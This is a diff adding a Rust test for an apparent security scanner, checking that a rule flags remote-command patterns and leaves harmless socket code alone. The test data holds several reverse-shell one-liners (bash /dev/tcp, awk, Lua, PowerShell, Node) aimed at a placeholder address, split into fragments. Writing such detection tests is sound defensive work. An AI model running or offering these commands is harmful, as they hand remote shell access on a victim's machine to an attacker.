@@ -148,6 +148,47 @@ fn shells_over_the_network_are_for_people_to_look_at() {
     }
 }
 
+#[test]
+fn commands_from_the_network_are_for_people_to_look_at() {
+    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
+    for parts in [
+        ["exec 5<>/dev/t", "cp/192.0.2.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done"],
+        ["exec 196<>/dev/t", "cp/192.0.2.1/4242; sh <&196 >&196 2>&196"],
+        ["bash -c 'exec {fd}<>/dev/t", "cp/192.0.2.1/4242; bash -i <&\"$fd\"; sh <&3'"],
+        [
+            "awk 'BEGIN {s = \"/inet/t",
+            "cp/0/192.0.2.1/4242\"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }'",
+        ],
+        [
+            "lua -e 'local t=require(\"soc",
+            "ket\").tcp();t:connect(\"h\",4242);local r=t:receive();local f=io.popen(r,\"r\");t:send(f:read(\"*a\"))'",
+        ],
+        [
+            "$c = New-Object System.Net.Sockets.TCPCli",
+            "ent('192.0.2.1',4242);$s = $c.GetStream();while($s.Read($b,0,9)){$o = (iex $d | Out-String)}",
+        ],
+        [
+            "var n = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Soc",
+            "ket(); c.connect(4242, 'h', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); });",
+        ],
+    ] {
+        let text = parts.concat();
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [("commands_from_the_network".to_owned(), Meaning::Suspicious)], "{text}");
+    }
+    for text in [
+        "until exec 3<>/dev/tcp/db/5432; do sleep 1; done; while read -r line <&3; do echo \"$line\"; done",
+        "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3; cat <&3",
+        "BEGIN { s = \"/inet/tcp/0/h/80\"; print \"GET /\" |& s; while ((s |& getline) > 0) print }",
+        "local s = require(\"socket\").tcp() s:send(\"x\") print(s:receive())",
+        "$c = New-Object System.Net.Sockets.TCPClient('db', 5432); $c.Close()",
+        "const c = net.connect(80); c.pipe(process.stdout); spawn('ls').stdout.pipe(c)",
+    ] {
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [], "{text}");
+    }
+}
+
 /// The text of each built-in rule, by its name.
 fn built_in() -> Vec<(&'static str, &'static str)> {
     let rules = BUILT_IN.split("\nrule ").map(|text| text.trim_start_matches("rule "));
